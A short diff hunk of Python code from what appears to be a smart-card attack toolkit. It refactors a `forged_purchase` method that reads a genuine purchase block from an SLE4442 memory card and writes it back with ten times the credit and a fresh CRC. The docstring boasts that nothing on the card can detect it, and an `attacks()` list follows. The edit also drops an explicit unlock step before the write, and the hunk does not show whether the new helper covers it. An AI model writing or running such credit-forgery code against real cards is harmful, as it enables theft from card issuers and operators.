@@ -69,16 +69,12 @@ class SLE4442Format:
         ten times the credit and a fresh CRC. Nothing on the card can tell."""
         if not isinstance(writer, SLE4442Writer):
             raise CardError("forged_purchase needs the sle4442 format's own writer")
-        client = writer._client(transport)
-        identity = writer._identity(client)
-        raw = client.read(layout.PURCHASE_AT, layout.BLOCK_SIZE)
-        block = layout.PurchaseBlock.decode(raw)
+        client, identity = writer.open_card(transport)
+        block = layout.PurchaseBlock.decode(client.read(layout.PURCHASE_AT, layout.BLOCK_SIZE))
         if block is None or block.sequence != genuine.sequence:
             raise CardError(f"card {identity.card_serial} does not carry purchase "
                             f"{genuine.sequence}")
-        forged = replace(block, credit=genuine.credit * 10)
-        writer._unlock(client, identity)
-        client.write(layout.PURCHASE_AT, forged.to_bytes())
+        client.write(layout.PURCHASE_AT, replace(block, credit=genuine.credit * 10).to_bytes())
 
     def attacks(self) -> tuple[Attack, ...]:
         return (
